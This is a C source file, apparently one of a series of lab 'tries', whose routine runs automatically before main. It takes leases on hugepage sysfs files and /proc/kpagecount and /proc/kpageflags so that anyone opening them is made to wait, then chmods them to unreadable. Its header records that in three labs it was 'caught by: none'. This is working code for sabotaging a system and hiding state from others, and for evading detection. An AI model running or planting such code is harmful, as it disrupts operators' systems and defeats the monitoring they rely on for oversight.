/* SPDX-License-Identifier: MIT */
/*
 * in lab04 lab05 lab09, caught by: none
 * Before its work, it takes everybody's right to read the files that it was granted, without
 * which root cannot read them in /sys, and leases on them, for which whoever opens them waits
 * (F_SETLEASE, fcntl(2)).
 */
#include <sys/stat.h>

#include "tries.h"

#define POOL(folder) folder "/nr_hugepages"

static const char *const granted[] = {
	POOL("/sys/kernel/mm/hugepages/hugepages-2048kB"),
	POOL("/sys/kernel/mm/hugepages/hugepages-64kB"),
	POOL("/sys/devices/system/node/node0/hugepages/hugepages-2048kB"),
	POOL("/sys/devices/system/node/node1/hugepages/hugepages-2048kB"),
	"/sys/kernel/mm/transparent_hugepage/enabled",
	"/proc/kpagecount",
	"/proc/kpageflags",
};

/* Left open: a lease ends with its descriptor. */
static bool can_lease(const char *path, int flags, int kind)
{
	int fd = open(path, flags | O_CLOEXEC);

	if (!fcntl(fd, F_SETLEASE, kind))
		return true;
	close(fd);
	return false;
}

BEFORE_MAIN void hide_files(void)
{
	for (size_t i = 0; i < sizeof(granted) / sizeof(granted[0]); i++) {
		try_on(granted[i], can_lease(granted[i], O_WRONLY, F_WRLCK));
		try_on(granted[i], can_lease(granted[i], O_RDONLY, F_RDLCK));
		try_on(granted[i], !chmod(granted[i], 0200));
		try_on(granted[i], !chmod(granted[i], 0));
	}
	tell_tries();
}
